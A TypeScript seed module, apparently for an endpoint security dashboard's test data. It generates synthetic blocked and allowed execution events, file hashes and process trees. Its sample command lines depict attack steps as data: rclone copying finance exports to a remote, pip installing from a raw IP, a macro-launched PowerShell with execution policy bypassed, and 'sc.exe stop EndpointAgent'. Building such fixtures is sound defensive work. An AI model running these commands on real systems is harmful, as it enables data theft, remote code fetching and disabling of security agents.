  if (lower.endsWith('.msi') || /setup|installer/.test(lower) || event === 'ElevationRequested')
    return 'Installer';
  return 'Executable';
}

function severityOf(rng: Random, cls: HashClass, event: EventType): { blocked: Severity; allowed: Severity } {
  if (event === 'TamperAttempt') return { blocked: 'Critical', allowed: 'High' };
  if (event === 'ElevationRequested') return { blocked: 'Medium', allowed: 'Low' };
  switch (cls) {
    case 'malicious':
      return { blocked: 'Critical', allowed: 'Critical' };
    case 'suspicious':
      return { blocked: rng.chance(0.6) ? 'High' : 'Medium', allowed: 'Medium' };
    case 'notFound':
      return { blocked: event === 'PolicyViolation' || rng.chance(0.3) ? 'Medium' : 'Low', allowed: 'Info' };
    default:
      return {
        blocked: event === 'RemovableMediaBlocked' || rng.chance(0.25) ? 'Medium' : 'Low',
        allowed: 'Info',
      };
  }
}

function detectionsOf(rng: Random, cls: HashClass): { detections: number; engines: number } {
  switch (cls) {
    case 'malicious':
      return { detections: rng.int(30, 66), engines: 72 };
    case 'suspicious':
      return { detections: rng.int(3, 15), engines: 72 };
    case 'notFound':
      return { detections: 0, engines: 0 };
    default:
      return { detections: 0, engines: 72 };
  }
}

const md5Of = (sha256: string) => createHash('md5').update(`md5:${sha256}`).digest('hex');
const sha1Of = (sha256: string) => createHash('sha1').update(`sha1:${sha256}`).digest('hex');

// ---------------------------------------------------------------- named rows of the examples

interface NamedHash {
  key: string;
  sha256: string;
  md5?: string;
  sha1?: string;
  fileName: string;
  path: string;
  publisher: string | null;
  cls: HashClass;
  severity: Severity;
  detections: number;
  engines: number;
  firstSeen: string;
  /** Which product the file is a version of (its pool weight and launch), or its own. */
  product?: string;
  launch: Launch;
  event: EventType;
  policy: string | null;
  /** Keep out of the random pool: it appears in scripted incidents only. */
  incident?: boolean;
  tree?: boolean;
}

const NAMED: NamedHash[] = [
  {
    key: 'invoice',
    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
    md5: '3de1d73a19c7590ee66398a17e93bd67',
    sha1: 'e9e8fa9602f37a97a0e3f588c8e49e1bbb756706',
    fileName: 'invoice_viewer.exe',
    path: 'C:\\Users\\{user}\\Downloads\\invoice_viewer.exe',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 61,
    engines: 72,
    firstSeen: '2026-11-02T08:14:09Z',
    launch: 'explorer',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
    incident: true,
  },
  {
    key: 'excel',
    sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae',
    md5: '1db7afcfec00120a8812a4c6a1a267c0',
    sha1: '8cc31f9d77f6d97d97b3771b145267170a4e7bb7',
    fileName: 'excel.exe',
    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
    publisher: 'Microsoft Corporation',
    cls: 'harmless',
    severity: 'Info',
    detections: 0,
    engines: 72,
    firstSeen: '2025-01-14T10:22:31Z',
    product: 'EXCEL.EXE',
    launch: 'explorer',
    event: 'ExecutionAllowed',
    policy: 'Trusted Publishers',
    tree: false,
  },
  {
    key: 'portable',
    sha256: '61baf771f25b3ab9107ecdd47af5fab5ae3aa73a6121dae0ff420e9107cc5975',
    md5: 'f954ec8fae99f2984150e95396572623',
    sha1: 'f336ed9b1908e26940d41170a671452891063d20',
    fileName: 'PortableApps.exe',
    path: 'E:\\PortableApps\\PortableApps.exe',
    publisher: 'Rare Ideas, LLC',
    cls: 'harmless',
    severity: 'Medium',
    detections: 0,
    engines: 72,
    firstSeen: '2026-11-04T09:12:37Z',
    launch: 'usb',
    event: 'RemovableMediaBlocked',
    policy: 'Removable Media',
    incident: true,
  },
  {
    key: 'zoom',
    sha256: '969c576e22fcaee2cd4a366e750254883436e6ee4ca8fdf38299ef0f59a77078',
    md5: '97adbaf82bec5da641ca277cfdf8f439',
    sha1: '32de72995d5cfd0ffb02178ed2b89742df545126',
    fileName: 'Zoom.exe',
    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
    publisher: 'Zoom Video Communications, Inc.',
    cls: 'harmless',
    severity: 'Low',
    detections: 0,
    engines: 72,
    firstSeen: '2026-08-19T14:03:55Z',
    product: 'Zoom.exe',
    launch: 'explorer',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
  },
  {
    key: 'rclone',
    sha256: 'fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9',
    md5: '4d46f941de59021095ec9085a16cf290',
    sha1: 'f6023f0835ef6d8e41cda229a278118dde69dc07',
    fileName: 'rclone.exe',
    path: 'C:\\ProgramData\\sync\\rclone.exe',
    publisher: null,
    cls: 'suspicious',
    severity: 'High',
    detections: 9,
    engines: 72,
    firstSeen: '2026-10-27T21:48:02Z',
    product: 'rclone.exe',
    launch: 'task',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
  },
  {
    key: 'updateHelper',
    sha256: 'd4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35',
    md5: '506cd8d4605ab25caf236baccf63d8b0',
    sha1: 'a7b62a8811b311a7c124b2491dad89634edc7aae',
    fileName: 'update_helper.dll',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\update_helper.dll',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 58,
    engines: 72,
    firstSeen: '2026-11-12T10:31:44Z',
    launch: 'rundll',
    event: 'DllLoadBlocked',
    policy: 'Code Load',
    incident: true,
  },
  {
    key: 'anydesk',
    sha256: 'c6d90591a3d1c06c841b3f6c7311292f90d21844a6e03658d87a70ec189bdef1',
    md5: 'f80f5a2de480ca89c1797f3977597358',
    sha1: 'acff8640c8c9bfb855c8aed2f2fc11ea5f0c08eb',
    fileName: 'AnyDesk.exe',
    path: 'C:\\Users\\{user}\\Downloads\\AnyDesk.exe',
    publisher: 'philandro Software GmbH',
    cls: 'suspicious',
    severity: 'High',
    detections: 5,
    engines: 72,
    firstSeen: '2026-11-02T07:41:27Z',
    product: 'AnyDesk.exe',
    launch: 'browser',
    event: 'ExecutionBlocked',
    policy: null,
    tree: false,
  },
  {
    key: 'qbw',
    sha256: '3b37a0f79f919be2e14b99b39e2fd300bd591370d9f4077d355718ad14a18984',
    md5: '6c3d196d8e92d206a425c15c6ed68c7b',
    sha1: '7669df4612a148ef5206868d1ccecdce429ce2dc',
    fileName: 'QBW32.exe',
    path: 'C:\\Program Files\\Intuit\\QuickBooks 2026\\QBW32.exe',
    publisher: 'Intuit Inc.',
    cls: 'notFound',
    severity: 'Medium',
    detections: 0,
    engines: 0,
    firstSeen: '2026-11-10T08:31:50Z',
    product: 'QBW32.exe',
    launch: 'explorer',
    event: 'PolicyViolation',
    policy: 'Finance Global Policy',
    tree: false,
  },
  {
    key: 'python',
    sha256: 'e41b8eadf4c6e69c5148ebd37ef60c3a4d55ccef1cb43e96e3de9152d7483c0e',
    md5: '3807dd77b44454cd534b66fe6ae31f4a',
    sha1: '83415f13601c8fb9748519ba063dfb69cb786f90',
    fileName: 'python.exe',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe',
    publisher: 'Python Software Foundation',
    cls: 'harmless',
    severity: 'High',
    detections: 0,
    engines: 72,
    firstSeen: '2026-10-05T15:40:22Z',
    launch: 'dev',
    event: 'NetworkBlocked',
    policy: 'Netlock Policy',
    incident: true,
  },
  {
    key: 'chromeUpdater',
    sha256: '9f5f561164918277e12ec6d892d6c01ca9d36b7199fe9795c08d3e3a11021e8c',
    md5: '03a77109a99bcdac652cadccba241999',
    sha1: 'e30ef996cf21e4dd3a29620407dd848f630e9ed5',
    fileName: 'chrome_updater.exe',
    path: 'C:\\Users\\{user}\\AppData\\Roaming\\chrome_updater.exe',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 49,
    engines: 72,
    firstSeen: '2026-11-16T11:58:03Z',
    launch: 'explorer',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
    incident: true,
  },
  {
    key: '7zg',
    sha256: '52f3ce9e7245b38185c3f7e33ef2727a39877c819148e789f036b616e8eb0181',
    md5: '0421e46dc1719a1dd304a92d10522728',
    sha1: 'adf2789ae5f6d68c803171e952849e1ba9cd9828',
    fileName: '7zG.exe',
    path: 'C:\\Program Files\\7-Zip\\7zG.exe',
    publisher: 'Igor Pavlov',
    cls: 'harmless',
    severity: 'Info',
    detections: 0,
    engines: 72,
    firstSeen: '2024-06-03T11:20:45Z',
    product: '7zG.exe',
    launch: 'explorer',
    event: 'ExecutionAllowed',
    policy: 'Default Enclave',
  },
  {
    key: 'syncShare',
    sha256: '87e4099df66a3249d116e1bfe84b1b24b66e5fe6d98cd5f1e635470a1209770d',
    md5: '9e80d4c69569405f7405f02228404685',
    sha1: '8e2982a6b4c976db4d6c68dad9aa2f24de264111',
    fileName: 'sync_share.ps1',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\sync_share.ps1',
    publisher: null,
    cls: 'notFound',
    severity: 'High',
    detections: 0,
    engines: 0,
    firstSeen: '2026-11-14T10:03:41Z',
    launch: 'macro',
    event: 'ScriptBlocked',
    policy: 'Custom Scripts',
    incident: true,
  },
  {
    key: 'invoiceNov',
    sha256: '50f78dbac01e6b9be27e0c1c00eab83352f571baa5fcd70e7a61aa1a15b1230b',
    md5: '691d81a648282b835ceb4a65fd215348',
    sha1: 'c7b780ddf6eb269db15ef68dfa6547eada90e37e',
    fileName: 'Invoice_Nov2026.pdf.exe',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KQ2ZP4W\\Invoice_Nov2026.pdf.exe',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 63,
    engines: 72,
    firstSeen: '2026-11-13T16:05:12Z',
    launch: 'outlook',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
    incident: true,
  },
  {
    key: 'rtcore',
    sha256: '45d6128bfda3962bce5ee6f3ca816e8fe65763e88bc78001902be9332e6df302',
    md5: '219b08fd2d2887513844a1019a64b8c7',
    sha1: 'b1664fda7dd32f98261ca24a59b90a56f5203b68',
    fileName: 'RTCore64.sys',
    path: 'C:\\Windows\\Temp\\RTCore64.sys',
    publisher: 'Micro-Star International CO., LTD.',
    cls: 'malicious',
    severity: 'Critical',
    detections: 41,
    engines: 72,
    firstSeen: '2026-11-09T02:14:27Z',
    launch: 'driver',
    event: 'ExecutionBlocked',
    policy: 'Driver Control',
    incident: true,
  },
  {
    key: 'updateOffice',
    sha256: 'cf580490fec2a32243bd5664aa51c6eb7daf9cbb7c3e45ebd7000652754676dc',
    md5: 'e41dd3ac008ee5613ebea20108de2175',
    sha1: 'b85e11c7beab3467817a368bf095c628fadbd1c8',
    fileName: 'Update-Office.ps1',
    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\Update-Office.ps1',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 36,
    engines: 72,
    firstSeen: '2026-11-06T18:44:09Z',
    launch: 'macro',
    event: 'ScriptBlocked',
    policy: 'Custom Scripts',
    incident: true,
  },
  {
    key: 'mimikatz',
    sha256: 'f79120505932db8664767a6d21b91498415c851df87f1f04f40fe727c1688248',
    md5: 'bbc31a0a4089090963e6ace59719547e',
    sha1: '971c766e652430745b7e5c0bcb4705a411a7e7e5',
    fileName: 'mimikatz.exe',
    path: 'C:\\Users\\Public\\Documents\\mimikatz.exe',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 66,
    engines: 72,
    firstSeen: '2026-10-30T23:51:38Z',
    launch: 'explorer',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
    incident: true,
  },
  {
    key: 'svchosts',
    sha256: '3a25b9d31cb53bddd5881a9baa51f843edf6947605ec872cb510e526f492a525',
    md5: '68b2bb9487b1733a1f480a49a034ab5a',
    sha1: 'ae3e5e9396a9c5d45dba2a256717591c10abb53d',
    fileName: 'svchosts.exe',
    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\svchosts.exe',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 60,
    engines: 72,
    firstSeen: '2026-10-21T04:12:55Z',
    launch: 'task',
    event: 'ExecutionBlocked',
    policy: 'Default Enclave',
    incident: true,
  },
  {
    key: 'winlogonHelper',
    sha256: '0cc537aa0955e9a48b64b103bd6b02ba96b2f345eb7c56c2e34f33978364ac3f',
    md5: '83d7dc863216f2ae4a34c799823bd4ae',
    sha1: 'feaf66349b52ae601d99f1e9e70625a5d59c37f6',
    fileName: 'winlogon_helper.dll',
    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\winlogon_helper.dll',
    publisher: null,
    cls: 'malicious',
    severity: 'Critical',
    detections: 52,
    engines: 72,
    firstSeen: '2026-10-21T04:13:02Z',
    launch: 'rundll',
    event: 'DllLoadBlocked',
    policy: 'Code Load',
    incident: true,
  },
  {
    key: 'kintai',
    sha256: '4e07408562bedb8b60ce05c1decfe3ad16b72230967de01f640b7e4729b49fce',
    md5: '282b5b0967ea931ce9d6be6b895c24e6',
    sha1: 'a99a1b3d4adef83cdf03b42bd301ddbc3dc1e18b',
    fileName: '勤怠管理.exe',
    path: 'C:\\Program Files (x86)\\KintaiSystem\\勤怠管理.exe',
    publisher: 'さくらソフト株式会社',
    cls: 'notFound',
    severity: 'Low',
    detections: 0,
    engines: 0,
    firstSeen: '2024-04-01T00:12:33Z',
    product: '勤怠管理.exe',
    launch: 'explorer',
    event: 'ExecutionAllowed',
    policy: 'Default Enclave',
    tree: false,
  },
  {
    key: 'powershell',
    sha256: SYS.powershell!.sha256,
    fileName: 'powershell.exe',
    path: SYS.powershell!.path,
    publisher: 'Microsoft Windows',
    cls: 'harmless',
    severity: 'Info',
    detections: 0,
    engines: 72,
    firstSeen: '2023-10-10T17:02:11Z',
    launch: 'explorer',
    event: 'ExecutionAllowed',
    policy: 'Trusted Publishers',
    tree: false,
  },
  {
    key: 'sc',
    sha256: '4c8eb694813a30e2c3cf172dfe9b5f579a2b4fee5d65c730ba4e53f7eb35b32e',
    fileName: 'sc.exe',
    path: 'C:\\Windows\\System32\\sc.exe',
    publisher: 'Microsoft Windows',
    cls: 'harmless',
    severity: 'Critical',
    detections: 0,
    engines: 72,
    firstSeen: '2023-10-10T17:02:11Z',
    launch: 'tamper',
    event: 'TamperAttempt',
    policy: 'Agent Tamper Protection',
    incident: true,
  },
];

/** System binaries of the trees that are not named above, as harmless hashes of their own. */
const SYSTEM_HASHES: Array<[key: keyof typeof SYS, event: EventType, weight: number]> = [
  ['explorer', 'ExecutionAllowed', 50],
  ['svchost', 'ExecutionAllowed', 30],
  ['cmd', 'ExecutionAllowed', 18],
  ['rundll32', 'ExecutionAllowed', 10],
  ['code', 'ExecutionAllowed', 0],
  ['services', 'ExecutionAllowed', 6],
  ['chrome', 'ExecutionAllowed', 0],
  ['outlook', 'ExecutionAllowed', 0],
  ['wscript', 'ScriptBlocked', 2],
  ['msiexec', 'ElevationRequested', 6],
];

/** The individual events of the contract's example, with their ids. */
const EXAMPLE_EVENTS: Array<{
  id: number;
  at: string;
  type: EventType;
  action: Action;
  severity: Severity;
  computerId: number;
  user: string | null;
  hash: string;
  policy: string | null;
  path?: string;
  tree: 'default' | 'none';
}> = [
  {
    id: 7734460,
    at: '2026-11-19T08:41:17Z',
    type: 'ExecutionBlocked',
    action: 'blocked',
    severity: 'Critical',
    computerId: 40001,
    user: 'FABRIKAM\\mwebb',
    hash: 'invoice',
    policy: 'Default Enclave',
    tree: 'default',
  },
  {
    id: 7734453,
    at: '2026-11-19T08:02:44Z',
    type: 'ExecutionAllowed',
    action: 'allowed',
    severity: 'Info',
    computerId: 40001,
    user: 'FABRIKAM\\mwebb',
    hash: 'excel',
    policy: 'Trusted Publishers',
    tree: 'none',
  },
  {
    id: 7734446,
    at: '2026-11-19T07:26:10Z',
    type: 'RemovableMediaBlocked',
    action: 'blocked',
    severity: 'Medium',
    computerId: 40006,
    user: 'FABRIKAM\\det-kiosk03',
    hash: 'portable',
    policy: 'Removable Media',
    tree: 'default',
  },
  {
    id: 7734439,
    at: '2026-11-19T06:55:39Z',
    type: 'ExecutionBlocked',
    action: 'audited',
    severity: 'Low',
    computerId: 40014,
    user: 'FABRIKAM\\hkowalski',
    hash: 'zoom',
    policy: 'Default Enclave',
    tree: 'default',
  },
  {
    id: 7734432,
    at: '2026-11-18T22:14:50Z',
    type: 'ExecutionBlocked',
    action: 'blocked',
    severity: 'High',
    computerId: 40003,
    user: 'FABRIKAM\\svc-backup',
    hash: 'rclone',
    policy: 'Default Enclave',
    tree: 'default',
  },
  {
    id: 7734425,
    at: '2026-11-18T15:12:09Z',
    type: 'DllLoadBlocked',
    action: 'blocked',
    severity: 'Critical',
    computerId: 40002,
    user: 'FABRIKAM\\cdubois',
    hash: 'updateHelper',
    policy: 'Code Load',
    tree: 'default',
  },
  {
    id: 7734418,
    at: '2026-11-17T14:20:05Z',
    type: 'PolicyViolation',
    action: 'blocked',
    severity: 'Medium',
    computerId: 40013,
    user: 'FABRIKAM\\acheng',
    hash: 'qbw',
    policy: 'Finance Global Policy',
    tree: 'none',
  },
  {
    id: 7734411,
    at: '2026-11-17T09:47:23Z',
    type: 'NetworkBlocked',
    action: 'blocked',
    severity: 'High',
    computerId: 40005,
    user: 'FABRIKAM\\lnguyen',
    hash: 'python',
    policy: 'Netlock Policy',
    tree: 'default',
  },
  {
    id: 7734404,
    at: '2026-11-16T12:31:56Z',
    type: 'ExecutionBlocked',
    action: 'blocked',
    severity: 'Critical',
    computerId: 40001,
    user: 'FABRIKAM\\mwebb',
    hash: 'chromeUpdater',
    policy: 'Default Enclave',
    tree: 'default',
  },
  {
    id: 7734397,
    at: '2026-11-15T20:09:51Z',
    type: 'ExecutionBlocked',
    action: 'blocked',
    severity: 'High',
    computerId: 40002,
    user: 'FABRIKAM\\cdubois',
    hash: 'anydesk',
    policy: null,
    tree: 'none',
  },
  {
    id: 7734390,
    at: '2026-11-14T10:03:41Z',
    type: 'ScriptBlocked',
    action: 'audited',
    severity: 'High',
    computerId: 40004,
    user: 'FABRIKAM\\jpark',
    hash: 'syncShare',
    policy: 'Custom Scripts',
    tree: 'default',
  },
  {
    id: 7734383,
    at: '2026-11-11T19:45:12Z',
    type: 'TamperAttempt',
    action: 'blocked',
    severity: 'Critical',
    computerId: 40006,
    user: 'FABRIKAM\\det-kiosk03',
    hash: 'sc',
    policy: 'Agent Tamper Protection',
    tree: 'default',
  },
];

/** The process trees of the example events, exactly as the contract shows them. */
function exampleTrees(): Record<number, ProcessNode> {
  const n = (
    processId: number,
    p: Proc | { name: string; path: string; sha256: string; publisher: string | null },
    commandLine: string,
    children: ProcessNode[] = [],
  ): ProcessNode => ({
    processId,
    processName: p.name,
    filePath: p.path,
    sha256: p.sha256,
    publisher: p.publisher,
    commandLine,
    children,
  });
  const file = (key: string, user: string) => {
    const h = NAMED.find((x) => x.key === key)!;
    return {
      name: h.fileName,
      path: h.path.replace('{user}', user),
      sha256: h.sha256,
      publisher: h.publisher,
    };
  };
  const explorer = (pid: number, children: ProcessNode[]) =>
    n(pid, SYS.explorer!, 'C:\\Windows\\Explorer.EXE', children);
  const code = { ...SYS.code!, path: SYS.code!.path.replace('{user}', 'lnguyen') };
  return {
    7734460: explorer(6124, [
      n(11872, file('invoice', 'mwebb'), '"C:\\Users\\mwebb\\Downloads\\invoice_viewer.exe"'),
    ]),
    7734446: explorer(4388, [n(7712, file('portable', ''), '"E:\\PortableApps\\PortableApps.exe"')]),
    7734439: explorer(5260, [
      n(
        13044,
        file('zoom', 'hkowalski'),
        '"C:\\Users\\hkowalski\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe" --action=join --confno=84512290371',
      ),
    ]),
    7734432: n(1460, SYS.svchost!, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule', [
      n(9328, SYS.cmd!, 'C:\\Windows\\system32\\cmd.exe /c C:\\ProgramData\\sync\\run_sync.cmd', [
        n(
          9412,
          file('rclone', ''),
          'C:\\ProgramData\\sync\\rclone.exe copy D:\\Finance\\Exports fabsync:fab-backup --transfers 8',
        ),
      ]),
    ]),
    7734425: explorer(7020, [
      n(
        12556,
        SYS.rundll32!,
        'C:\\Windows\\System32\\rundll32.exe C:\\Users\\cdubois\\AppData\\Local\\Temp\\update_helper.dll,DllRegisterServer',
      ),
    ]),
    7734411: explorer(3904, [
      n(8816, code, '"C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe"', [
        n(
          15220,
          file('python', 'lnguyen'),
          'C:\\Users\\lnguyen\\AppData\\Local\\Programs\\Python\\Python312\\python.exe -m pip install --index-url http://203.0.113.50/simple fab-etl-tools',
        ),
      ]),
    ]),
    7734404: explorer(6124, [
      n(
        10340,
        file('chromeUpdater', 'mwebb'),
        '"C:\\Users\\mwebb\\AppData\\Roaming\\chrome_updater.exe" /silent',
      ),
    ]),
    7734390: explorer(5588, [
      n(
        9964,
        SYS.excel!,
        '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" "C:\\Users\\jpark\\Documents\\BOM_costing_Q4.xlsm"',
        [
          n(
            14408,
            SYS.powershell!,
            'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Users\\jpark\\AppData\\Local\\Temp\\sync_share.ps1',
          ),
        ],
      ),
    ]),
    7734383: explorer(2816, [
      n(6032, SYS.cmd!, '"C:\\Windows\\system32\\cmd.exe"', [
        n(6140, file('sc', ''), 'sc.exe stop EndpointAgent'),
      ]),
    ]),
  };
}

/** Details of the named computers (the contract's examples of the computer details). */
const NAMED_COMPUTERS: Array<{
  id: number;
  domain: string;
  user: string;
  cpu?: string;
  memoryMb?: number;
  installDate?: string;
  mac: string;
  serial: string;
}> = [
  {
    id: 40001,
    domain: 'FABRIKAM',
    user: 'mwebb',
    cpu: 'Intel Core i7-1365U',
    memoryMb: 16384,
    installDate: '2025-03-14T09:00:00Z',
    mac: '3C:52:82:1A:7F:04',
    serial: 'PF3X7K2A',
  },
  { id: 40002, domain: 'FABRIKAM', user: 'cdubois', mac: '3C:52:82:1A:7F:11', serial: 'PF3X7K3B' },
  { id: 40003, domain: 'FABRIKAM', user: 'rmenon', mac: '3C:52:82:1A:80:2C', serial: 'PF3X7L0Q' },
  { id: 40004, domain: 'FABRIKAM', user: 'jpark', mac: 'F4:A4:75:0C:21:7E', serial: '5CG3281QX2' },
  {
    id: 40005,
    domain: 'FABRIKAM',
    user: 'lnguyen',
    cpu: 'Intel Core i5-1345U',
    memoryMb: 16384,
    installDate: '2025-06-02T13:41:20Z',
    mac: 'F4:A4:75:0C:22:91',
    serial: '5CG3281QZ7',
  },
  { id: 40006, domain: 'FABRIKAM', user: 'det-kiosk03', mac: '00:1B:21:7C:4E:03', serial: 'MJ0DK03A' },
  {
    id: 40007,
    domain: 'TOKYOSEIMITSU',
    user: 't.suzuki',
    cpu: 'Intel Core i7-1355U',
    memoryMb: 32768,
    installDate: '2024-04-01T00:05:12Z',
    mac: '08:92:04:6E:B3:5D',
    serial: 'MJ0K8TQ2',
  },
  { id: 40008, domain: 'TOKYOSEIMITSU', user: 'k.tanaka', mac: '08:92:04:6E:C1:07', serial: 'MJ0K9AA4' },
  { id: 40009, domain: 'TOKYOSEIMITSU', user: 'line-t12', mac: '00:1B:21:9A:10:12', serial: 'MJ0LT12C' },
  { id: 40010, domain: 'WOODGROVE', user: 'teller118', mac: '64:00:6A:2B:11:18', serial: 'CND2118WG' },
  { id: 40011, domain: 'WOODGROVE', user: 'teller119', mac: '64:00:6A:2B:11:19', serial: 'CND2119WG' },
  { id: 40012, domain: 'TAILSPIN', user: 'amoreno', mac: 'A4:BB:6D:52:03:23', serial: 'PF4TS03D' },
  { id: 40013, domain: 'FABRIKAM', user: 'acheng', mac: '3C:52:82:1A:81:49', serial: 'PF3X7M4E' },
  { id: 40014, domain: 'FABRIKAM', user: 'hkowalski', mac: 'F4:A4:75:0C:23:12', serial: '5CG3281R04' },
];

// ---------------------------------------------------------------- helpers

/** Runs a bulk load with the table's secondary indexes and foreign keys dropped, then restores them. */
async function bulkLoad(
  db: Database,
  table: string,
  load: () => Promise<void>,
  options: { primaryKey?: boolean } = {},
): Promise<void> {
  const indexes = await db.query<{ name: string; def: string }>(
    `select indexname as name, indexdef as def from pg_indexes
     where schemaname = current_schema() and tablename = $1 and indexname <> $1 || '_pkey'`,
    [table],
  );
  const constraints = await db.query<{ name: string; def: string }>(
    `select conname as name, pg_get_constraintdef(oid) as def from pg_constraint
     where conrelid = $1::regclass and contype = any($2::"char"[]) order by contype desc`,
    [table, options.primaryKey ? ['f', 'p'] : ['f']],
  );
  for (const c of constraints) await db.exec(`alter table ${table} drop constraint ${c.name}`);
  for (const ix of indexes) await db.exec(`drop index ${ix.name}`);
  await load();
  for (const ix of indexes) await db.exec(ix.def);
  // The primary key first (the foreign keys of other tables may need it), then the foreign keys:
  // NOT VALID, as the rows were generated from the rows they reference (checking a million of
  // them again would double the seed); later writes are checked as usual.
  for (const c of [...constraints].reverse()) {
    const notValid = c.def.startsWith('FOREIGN KEY') ? ' not valid' : '';
    await db.exec(`alter table ${table} add constraint ${c.name} ${c.def}${notValid}`);
  }
}

interface ComputerRow {
  id: number;
  name: string;
  group_id: number;
  site_id: number;
  company_id: number;
  partner_id: number;
  protection_mode: string;
  online: boolean;
  domain: string | null;
  logged_on_user: string | null;
  last_seen: Date | null;
  ja: boolean;
  main_id: number | null;
  agms: boolean;
  agent_version: string;
}

// ---------------------------------------------------------------- the module

export const seedInspection: SeedModule = async (ctx: SeedContext) => {
  const { db } = ctx;
  const now = ctx.now.getTime();
  const shift = now - EXAMPLE_TIME;
  const at = (iso: string) => new Date(Date.parse(iso) + shift);

  await seedNamedComputers(db, at);
  const computers = await db.query<ComputerRow>(
    `select c.id, c.name, c.group_id, g.site_id, s.company_id, co.partner_id, c.protection_mode, c.online, c.domain,
       c.logged_on_user, c.last_seen, co.country = 'Japan' as ja, c.main_id, g.agms, c.agent_version
     from computers c join groups g on g.id = c.group_id join sites s on s.id = g.site_id join companies co on co.id = s.company_id
     where not c.deleted order by c.id`,
  );
  const byId = new Map(computers.map((c) => [c.id, c]));

  const catalogue = buildCatalogue(ctx, at);
  const scripted = scriptedEvents(ctx, catalogue, computers, byId, at);
  await insertRows(
    db,
    'file_hashes',
    [
      ['id', 'int'],
      ['sha256', 'text'],
      ['md5', 'text'],
      ['sha1', 'text'],
      ['file_name', 'text'],
      ['hash_type', 'text'],
      ['hash_class', 'text'],
      ['severity', 'text'],
      ['detection_count', 'int'],
      ['engine_count', 'int'],
      ['publisher', 'text'],
      ['first_seen', 'timestamptz'],
    ],
    catalogue.hashes.map((h) => [
      h.id,
      h.sha256,
      h.md5,
      h.sha1,
      h.fileName,
      h.hashType,
      h.cls,
      h.severity,
      h.detections,
      h.engines,
      h.publisher,
      h.firstSeen,
    ]),
  );
  await bulkLoad(db, 'event_variants', () =>
    insertRows(
      db,
      'event_variants',
      [
        ['id', 'int'],
        ['hash_id', 'int'],
        ['event_type', 'text'],
        ['file_name', 'text'],
        ['file_path', 'text'],
        ['policy_name', 'text'],
        ['process_tree', 'json'],
      ],
      catalogue.variants.map((v) => [
        v.id,
        v.hashId,
        v.event,
        v.fileName,
        v.filePath,
        v.policy,
        v.tree === null ? null : JSON.stringify(v.tree),
      ]),
      2000,
    ),
  );

  await bulkLoad(
    db,
    'events',
    async () => {
      await insertRows(
        db,
        'events',
        [
          ['id', 'bigint'],
          ['reported_at', 'timestamptz'],
          ['company_id', 'int'],
          ['site_id', 'int'],
          ['group_id', 'int'],
          ['computer_id', 'int'],
          ['hash_id', 'int'],
          ['variant_id', 'int'],
          ['event_type', 'text'],
          ['action', 'text'],
          ['severity', 'text'],
          ['hash_class', 'text'],
          ['user_name', 'text'],
        ],
        scripted,
      );
      await poolEvents(db, ctx, catalogue, Math.max(0, ctx.sizes.events - scripted.length));
    },
    { primaryKey: true },
  );
  // The visibility map lets the aggregates and the lists read the indexes alone (index-only
  // scans); the tables are analyzed with the rest of the seed.
  await db.exec('vacuum events');
  await aggregate(db);

  await seedComputerArea(ctx, computers, at);
  await seedAuditLogs(ctx, computers, at);
};

async function seedNamedComputers(db: Database, at: (iso: string) => Date): Promise<void> {
  const col = <T>(f: (c: (typeof NAMED_COMPUTERS)[number]) => T) => NAMED_COMPUTERS.map(f);
  await db.query(
    `update computers c set domain = n.domain, logged_on_user = n.username, cpu = coalesce(n.cpu, c.cpu),
       memory_mb = coalesce(n.memory_mb, c.memory_mb), install_date = coalesce(n.install_date, c.install_date),
       mac_address = n.mac, serial_number = n.serial
     from unnest($1::int[], $2::text[], $3::text[], $4::text[], $5::int[], $6::timestamptz[], $7::text[], $8::text[])
       as n(id, domain, username, cpu, memory_mb, install_date, mac, serial)
     where c.id = n.id`,
    [
      col((c) => c.id),
      col((c) => c.domain),
      col((c) => c.user),
      col((c) => c.cpu ?? null),
      col((c) => c.memoryMb ?? null),
      col((c) => (c.installDate ? at(c.installDate) : null)),
      col((c) => c.mac),
      col((c) => c.serial),
    ],
  );
}

// ---------------------------------------------------------------- catalogue

interface HashRow {
  id: number;
  key?: string;
  sha256: string;
  md5: string;
  sha1: string;
  fileName: string;
  hashType: HashType;
  cls: HashClass;
  severity: Severity;
  detections: number;
  engines: number;
  publisher: string | null;
  firstSeen: Date;
}

interface VariantRow {
  id: number;
  hashId: number;
  cls: HashClass;
  event: EventType;
  fileName: string;
  filePath: string;
  policy: string | null;
  tree: ProcessNode | null;
  weight: number;
  ja: boolean;
  severity: Severity;
